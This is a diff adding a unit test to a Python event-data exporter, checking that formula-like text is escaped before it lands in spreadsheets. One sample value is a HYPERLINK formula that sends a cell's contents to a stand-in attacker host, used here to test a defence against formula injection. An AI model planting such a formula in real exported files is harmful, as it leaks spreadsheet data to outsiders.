@@ -86,3 +86,15 @@ def test_write_events_each_format(tmp_path: Path, fmt: str) -> None:
 def test_unknown_format_is_refused(tmp_path: Path) -> None:
     with pytest.raises(ValueError, match="unknown export format"):
         write_events([], "xlsx", tmp_path / "x.xlsx")
+
+
+def test_formula_like_text_is_made_inert_for_spreadsheets() -> None:
+    event = _clash()
+    event.notes = '=HYPERLINK("http://evil.example/?"&A1, "click")'
+    event.actor1 = "@SUM(1+1)"
+    event.location = "-Harem"
+    row = acled_row(event)
+    assert row["notes"].startswith("'=HYPERLINK")
+    assert row["actor1"] == "'@SUM(1+1)"
+    assert row["location"] == "'-Harem"
+    assert row["latitude"] == "36.2118"  # numbers untouched
